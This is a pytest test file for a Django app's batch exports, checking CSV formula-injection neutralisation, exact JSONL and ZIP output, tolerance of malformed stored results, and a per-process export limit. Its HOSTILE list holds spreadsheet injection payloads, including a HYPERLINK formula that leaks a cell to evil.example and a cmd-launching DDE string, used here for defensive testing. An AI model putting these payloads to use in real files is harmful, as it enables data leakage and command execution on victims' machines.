"""Exports: CSV cells can never become spreadsheet formulas; JSON Lines and the
ZIP stay exact; and no stored row, however old or odd, can break an export."""

import csv
import io
import json
import zipfile

import pytest
from django.test import Client
from django.utils import timezone

from batches.exports import spreadsheet_safe, srt
from batches.models import BatchItem
from jobs import transitions
from jobs.models import Job
from tests.support.factories import claim, make_batch, make_user

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\tindented",
    "\rreturn",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_start_a_formula_gets_an_apostrophe(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "a=b", " =x", "'=already", "", "1e3"])
def test_other_cells_are_unchanged(value):
    assert spreadsheet_safe(value) == value


def test_numbers_are_unchanged():
    assert spreadsheet_safe(-5) == -5


@pytest.fixture
def hostile(worker):
    """A batch whose sources, transcripts and errors all start like formulas."""
    batch = make_batch(len(HOSTILE) * 2)
    items = list(BatchItem.objects.filter(batch=batch).order_by("pk"))
    for item, source in zip(items, HOSTILE * 2, strict=True):
        # Sources as an older intake let them in (today's refuses a leading '-').
        BatchItem.objects.filter(pk=item.pk).update(source=source)
    for n, value in enumerate(HOSTILE * 2):
        job = claim(worker, now=timezone.now())
        if n < len(HOSTILE):
            transitions.complete(
                job, job.lease_token, worker=worker, result={"text": value}
            )
        else:
            transitions.fail(
                job, job.lease_token, worker=worker, error=value, retryable=False
            )
    return batch


def _export(batch, fmt: str) -> bytes:
    client = Client()
    client.force_login(make_user("exporter", "Operators"))
    response = client.get(f"/batches/{batch.pk}/export.{fmt}")
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_csv_export_neutralises_every_cell(hostile):
    rows = list(csv.reader(io.StringIO(_export(hostile, "csv").decode())))

    assert rows[0] == [
        "item",
        "source",
        "state",
        "attempts",
        "text",
        "error",
        "flags",
    ]
    body = rows[1:]
    assert [row[1] for row in body] == ["'" + v for v in HOSTILE * 2]
    assert [row[4] for row in body[: len(HOSTILE)]] == ["'" + v for v in HOSTILE]
    assert [row[5] for row in body[len(HOSTILE) :]] == ["'" + v for v in HOSTILE]
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_jsonl_export_stays_exact(hostile):
    records = [json.loads(line) for line in _export(hostile, "jsonl").splitlines()]

    assert [r["source"] for r in records] == HOSTILE * 2
    assert [r["text"] for r in records[: len(HOSTILE)]] == HOSTILE
    assert [r["error"] for r in records[len(HOSTILE) :]] == HOSTILE


def test_zip_export_stays_exact(hostile):
    archive = zipfile.ZipFile(io.BytesIO(_export(hostile, "zip")))

    texts = [archive.read(name).decode() for name in sorted(archive.namelist())]
    assert texts == [value + "\n" for value in HOSTILE]


def test_zip_export_survives_any_stored_result(worker):
    # Rows stored before the API bounded segment times (or edited behind its
    # back): the export leaves out what it cannot write, and never raises.
    batch = make_batch(5)
    stored = [
        {
            "text": "big",
            "segments": [
                {"start": 1e306, "end": 1e306, "text": "x"},
                {"start": 1, "end": 2, "text": "kept"},
            ],
        },
        {"text": "odd", "segments": [{"start": "0", "end": None}, 7, {"text": "t"}]},
        {"text": "neg", "segments": [{"start": -1, "end": 2, "text": "x"}]},
        {"text": ["not", "a", "string"], "segments": "nope"},
        ["not", "an", "object"],
    ]
    jobs = [claim(worker, now=timezone.now()) for _ in stored]
    for job in jobs:
        transitions.complete(
            job, job.lease_token, worker=worker, result={"text": "placeholder"}
        )
    for job, result in zip(jobs, stored, strict=True):
        Job.objects.filter(pk=job.pk).update(result=result)

    archive = zipfile.ZipFile(io.BytesIO(_export(batch, "zip")))

    names = archive.namelist()
    assert [n.rsplit(".", 1)[1] for n in names] == [
        "txt",
        "srt",
        "txt",
        "txt",
        "txt",
        "txt",
    ]
    assert archive.read(names[1]).decode() == "1\n00:00:01,000 --> 00:00:02,000\nkept\n"
    assert [archive.read(n).decode() for n in names if n.endswith(".txt")] == [
        "big\n",
        "odd\n",
        "neg\n",
        '["not", "a", "string"]\n',
        "\n",
    ]


def test_srt_leaves_out_unusable_segments():
    assert srt([{"start": float("inf"), "end": float("inf"), "text": "x"}]) == ""
    assert srt(None) == ""
    assert srt([{"start": 0, "end": 1e7, "text": " long "}]) == (
        "1\n00:00:00,000 --> 2777:46:40,000\nlong\n"
    )


def test_exports_beyond_the_per_process_limit_get_a_503_until_one_ends(
    settings, worker
):
    from batches.streaming import EXPORT_SLOTS

    settings.RECALL_EXPORTS_PER_PROCESS = 2
    batch = make_batch(3)
    client = Client()
    client.force_login(make_user("exporter", "Operators"))
    path = f"/batches/{batch.pk}/export.csv"

    first, second = client.get(path), client.get(path)  # streaming, still open
    busy = client.get(path)
    b"".join(first.streaming_content)  # the first one ends: its slot is free
    third = client.get(path)

    assert (first.status_code, second.status_code, third.status_code) == (200, 200, 200)
    assert busy.status_code == 503
    assert busy["Retry-After"] == "30"
    assert "This server is already streaming 2 exports" in busy.content.decode()
    assert EXPORT_SLOTS.in_use == 2
    second.close()
    third.close()
    assert EXPORT_SLOTS.in_use == 0
